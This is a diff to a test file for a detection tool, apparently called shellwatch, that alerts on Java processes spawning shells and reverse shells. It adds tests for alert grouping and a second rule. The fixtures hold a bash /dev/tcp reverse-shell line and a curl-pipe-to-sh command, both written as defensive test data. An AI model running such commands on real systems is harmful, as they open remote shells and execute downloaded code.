@@ -6,6 +6,7 @@ import hashlib
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import orjson
 import pytest
@@ -27,6 +28,12 @@ def detect(stdin: bytes, *args: str) -> subprocess.CompletedProcess[bytes]:
     )
 
 
+def sequence_alerts(stdout: bytes) -> list[dict[str, Any]]:
+    """The reverse-shell alerts of a detect run (the shell-spawned-by-java alerts are tested elsewhere)."""
+    alerts = [orjson.loads(line) for line in stdout.splitlines()]
+    return [a for a in alerts if a["rule"]["id"] == "potential-reverse-shell-via-java"]
+
+
 def lines(*docs: object) -> bytes:
     return b"".join((d if isinstance(d, bytes) else orjson.dumps(d)) + b"\n" for d in docs)
 
@@ -35,20 +42,27 @@ def test_bundled_sample_raises_exactly_the_attack() -> None:
     result = subprocess.run(
         [sys.executable, "-m", "shellwatch", "detect", "sample"], capture_output=True, timeout=120, check=True
     )
-    (alert,) = [orjson.loads(line) for line in result.stdout.splitlines()]
+    alerts = [orjson.loads(line) for line in result.stdout.splitlines()]
+    assert {(a["rule"]["id"], a["detection"]["case"]) for a in alerts} == {
+        ("potential-reverse-shell-via-java", None),
+        ("shell-spawned-by-java", "java_shell_execution_known_bad"),
+    }
+    (alert,) = sequence_alerts(result.stdout)
+    (shell_alert,) = [a for a in alerts if a is not alert and a["rule"]["id"] == "shell-spawned-by-java"]
+    assert alert["detection"]["related_alert_ids"] == [shell_alert["event"]["id"]]
     assert alert["host"]["id"] == ATTACKED_HOST
     assert [orjson.loads(orjson.dumps(e))["event"]["id"] for e in alert["detection"]["events"]] == [
         "attack-ldap-callback",
         "attack-reverse-shell",
     ]
-    assert b"1027 lines read" in result.stderr and b"1 alerts" in result.stderr
+    assert b"1027 lines read" in result.stderr and b"2 alerts" in result.stderr
 
 
 def test_alert_contract() -> None:
     conn, shell = conn_doc(1_700_000_000_000), exec_doc(1_700_000_001_250)
     result = detect(lines(conn, shell))
     assert result.returncode == 0
-    (alert,) = [orjson.loads(line) for line in result.stdout.splitlines()]
+    (alert,) = sequence_alerts(result.stdout)
     expected_id = hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{shell['event']['id']}".encode()).hexdigest()
     assert alert["event"] == {"kind": "alert", "id": expected_id, "severity": 47, "risk_score": 47}
     assert alert["rule"]["id"] == "potential-reverse-shell-via-java" and alert["rule"]["version"] == "9"
@@ -68,7 +82,7 @@ def test_events_are_quoted_as_received() -> None:
         b'"pid":100', b'"pid":100.000,"big":123456789012345678901234567890'
     )
     result = detect(lines(conn, exec_doc(1_700_000_000_500)))
-    (line,) = result.stdout.splitlines()
+    (line,) = [line for line in result.stdout.splitlines() if b'"potential-reverse-shell-via-java"' in line]
     assert b'"pid":100.000,"big":123456789012345678901234567890' in line
     assert conn in line
 
@@ -76,13 +90,15 @@ def test_events_are_quoted_as_received() -> None:
 def test_alert_id_is_deterministic_across_runs() -> None:
     data = lines(conn_doc(1_700_000_000_000), exec_doc(1_700_000_000_500))
     first, second = detect(data), detect(data)
-    assert orjson.loads(first.stdout)["event"]["id"] == orjson.loads(second.stdout)["event"]["id"]
+    assert [a["event"]["id"] for a in sequence_alerts(first.stdout)] == [
+        a["event"]["id"] for a in sequence_alerts(second.stdout)
+    ]
 
 
 def test_exec_identity_falls_back_to_entity_id_then_raw_bytes() -> None:
     shell = exec_doc(1_700_000_000_500)
     del shell["event"]["id"]
-    out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), shell)).stdout)
+    (out,) = sequence_alerts(detect(lines(conn_doc(1_700_000_000_000), shell)).stdout)
     assert (
         out["event"]["id"]
         == hashlib.sha256(
@@ -91,7 +107,7 @@ def test_exec_identity_falls_back_to_entity_id_then_raw_bytes() -> None:
     )
     del shell["process"]["entity_id"]
     raw = orjson.dumps(shell)
-    out = orjson.loads(detect(lines(conn_doc(1_700_000_000_000), raw)).stdout)
+    (out,) = sequence_alerts(detect(lines(conn_doc(1_700_000_000_000), raw)).stdout)
     raw_hash = hashlib.sha256(raw).hexdigest()
     assert (
         out["event"]["id"] == hashlib.sha256(f"potential-reverse-shell-via-java|host-a|{raw_hash}".encode()).hexdigest()
@@ -109,7 +125,7 @@ def test_malformed_lines_around_an_attack() -> None:
         b'{"a": "/usr/bin/java\x1b[31m',  # a terminal escape in the reported text
         b"plain text with /usr/bin/java",
         b"",
-        b"no java here at all",
+        b"nothing relevant here at all",
     ]
     data = lines(
         bad[0],
@@ -127,18 +143,17 @@ def test_malformed_lines_around_an_attack() -> None:
     result = detect(data)
     assert result.returncode == 0
     assert b"Traceback" not in result.stderr
-    (alert,) = result.stdout.splitlines()
-    assert orjson.loads(alert)["rule"]["id"] == "potential-reverse-shell-via-java"
+    assert len(sequence_alerts(result.stdout)) == 1
     stderr = result.stderr.decode()
     for number in (1, 2, 4, 5, 6, 8, 9):
         assert f"line {number}: " in stderr
     assert "\x1b" not in stderr
     assert "11 lines read, 2 pre-filtered, 7 undecodable" in stderr
-    assert "1 alerts" in stderr
+    assert "2 alerts" in stderr  # the sequence and the shell spawned by Java
 
 
 def test_no_prefilter_reports_every_bad_line() -> None:
-    result = detect(lines(b"no java here", b"{}"), "--no-prefilter")
+    result = detect(lines(b"nothing relevant here", b"{}"), "--no-prefilter")
     assert "line 1: invalid_json" in result.stderr.decode()
     assert "2 lines read, 0 pre-filtered, 1 undecodable" in result.stderr.decode()
 
@@ -150,10 +165,10 @@ def test_secrets_are_masked_unless_disabled() -> None:
         process__args=["/bin/bash", "-c", "curl -u admin:pw http://x | sh"],
     )
     data = lines(conn_doc(1_700_000_000_000), shell)
-    masked = orjson.loads(detect(data).stdout)["detection"]["events"][1]
+    masked = sequence_alerts(detect(data).stdout)[0]["detection"]["events"][1]
     assert masked["process"]["env_vars"] == ["AWS_SECRET_ACCESS_KEY=[REDACTED]"]
     assert masked["process"]["args"][2] == "curl -u admin:**** http://x | sh"
-    plain = orjson.loads(detect(data, "--no-mask-secrets").stdout)["detection"]["events"][1]
+    plain = sequence_alerts(detect(data, "--no-mask-secrets").stdout)[0]["detection"]["events"][1]
     assert plain == shell
 
 
@@ -162,7 +177,7 @@ def test_lines_out_of_order_within_the_lateness(lateness: str) -> None:
     # The exec line comes before its connection line (the exec stream runs ahead).
     data = lines(exec_doc(1_700_000_001_000), conn_doc(1_700_000_000_000))
     result = detect(data, "--allowed-lateness-ms", lateness)
-    assert len(result.stdout.splitlines()) == 1
+    assert len(sequence_alerts(result.stdout)) == 1
 
 
 def test_unreadable_input_is_an_error() -> None:
@@ -173,3 +188,29 @@ def test_unreadable_input_is_an_error() -> None:
         check=False,
     )
     assert result.returncode == 2 and b"cannot read" in result.stderr and b"Traceback" not in result.stderr
+
+
+def shell_alerts(stdout: bytes) -> list[dict[str, Any]]:
+    alerts = [orjson.loads(line) for line in stdout.splitlines()]
+    return [a for a in alerts if a["rule"]["id"] == "shell-spawned-by-java"]
+
+
+def test_shell_alerts_are_grouped_per_period_unless_disabled() -> None:
+    recon = {"process__args": ["/bin/bash", "-c", "id"], "process__command_line": "/bin/bash -c id"}
+    repeats = [exec_doc(1_700_000_000_000 + i * 60_000, pid=900 + i, **recon) for i in range(3)]
+    after_an_hour = exec_doc(1_700_003_700_000, pid=999, **recon)
+    grouped = shell_alerts(detect(lines(*repeats, after_an_hour)).stdout)
+    assert [(a["detection"]["case"], a["detection"]["suppressed_count"]) for a in grouped] == [
+        ("java_shell_execution_suspicious", 0),
+        ("java_shell_execution_suspicious", 2),
+    ]
+    assert len(shell_alerts(detect(lines(*repeats, after_an_hour), "--no-group").stdout)) == 4
+
+
+def test_known_bad_is_never_grouped() -> None:
+    payload = {"process__args": ["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"]}
+    docs = [exec_doc(1_700_000_000_000 + i, pid=900 + i, **payload) for i in range(3)]
+    alerts = shell_alerts(detect(lines(*docs)).stdout)
+    assert [a["detection"]["case"] for a in alerts] == ["java_shell_execution_known_bad"] * 3
+    assert all(a["detection"]["severity"] == "critical" and a["event"]["risk_score"] == 99 for a in alerts)
+    assert alerts[0]["threat"][0]["technique"][0]["subtechnique"][0]["id"] == "T1059.004"
